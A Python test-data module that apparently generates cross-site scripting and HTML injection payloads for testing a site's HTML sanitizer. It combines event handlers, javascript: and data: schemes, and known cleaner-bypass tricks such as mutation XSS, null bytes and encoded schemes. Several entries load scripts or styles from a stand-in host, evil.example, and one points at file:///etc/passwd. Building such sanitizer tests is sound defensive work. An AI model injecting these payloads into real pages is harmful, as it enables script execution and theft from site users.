# ruff: noqa: E501  (a sample is read best on one line)
"""Markup that tries to run something, load something or ask for something in a page of ours (test 15; E19).

The well-known ways, crossed with each other: each handler on each element, each scheme in each attribute that
takes an address, and the tricks by which cleaners were got round.
"""

from itertools import product

_ELEMENTS = ["img src=x", "body", "svg", "input autofocus", "details open", "video", "audio", "marquee", "a", "p",
             "table", "iframe", "object", "math", "select autofocus"]  # fmt: skip
_HANDLERS = ["onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onstart"]
_ADDRESSES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)",
              "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
              "//evil.example/x", "https://evil.example/x", "file:///etc/passwd"]  # fmt: skip
_PLACES = ["<a href='{}'>x</a>", "<img src='{}'>", "<iframe src='{}'></iframe>", "<form action='{}'><input></form>",
           "<link rel=stylesheet href='{}'>", "<base href='{}'>", "<object data='{}'></object>",
           "<embed src='{}'>", "<video src='{}' poster='{}'></video>", "<table background='{}'><td>x</table>",
           "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<math href='{}'>x</math>",
           "<meta http-equiv=refresh content='0;url={}'>", "<img srcset='{} 2x'>", "<button formaction='{}'>x</button>",
           "<p style=\"background:url('{}')\">x</p>", "<style>@import '{}';</style>",
           "<input type=image src='{}'>", "<area href='{}'>", "<blockquote cite='{}'>x</blockquote>"]  # fmt: skip
_TRICKS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>", "<svg><style><img src=x onerror=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></form>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<title><img src=x onerror=alert(1)></title>", "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>", "<img src=x onerror=alert(1)//", "<img src=\"x\"onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<a href=\"x\" onclick=\"alert(1)\">x</a>",
    "<div style=\"width:expression(alert(1))\">x</div>", "<div style=\"behavior:url(#x)\">x</div>",
    "<div style=\"-moz-binding:url(https://evil.example/x)\">x</div>", "<b id=location name=body>x</b>",
    "<input name=attributes><input name=parentNode>", "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<frameset onload=alert(1)>", "<bgsound src=javascript:alert(1)>",
    "<layer src=https://evil.example/x></layer>", "<style>body{background:url(https://evil.example/x)}</style>",
    "<p id=x tabindex=1 onfocus=alert(1)></p><a href=#x>x</a>", "<a target=_blank href=https://evil.example>x</a>",
    "<img src=\"cid:x\" onerror=alert(1)>", "<img src=cid:../../admin>", "<img src=\"CID:foto\" srcset=https://evil.example/x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<x onclick=alert(1)>x</x>", "<a href=\"/cikis\">x</a>", "<img src=/cikis>",
    "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "<image src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<p><svg><foreignObject><script>alert(1)</script></foreignObject></svg></p>",
    "<select><style></select><img src=x onerror=alert(1)></style>", "<table><script>alert(1)</script></table>",
]  # fmt: skip

ATTACKS: list[str] = [
    *(f"<{element} {handler}=alert(1)>x" for element, handler in product(_ELEMENTS, _HANDLERS)),
    *(place.replace("{}", address) for place, address in product(_PLACES, _ADDRESSES)),
    *_TRICKS,
]
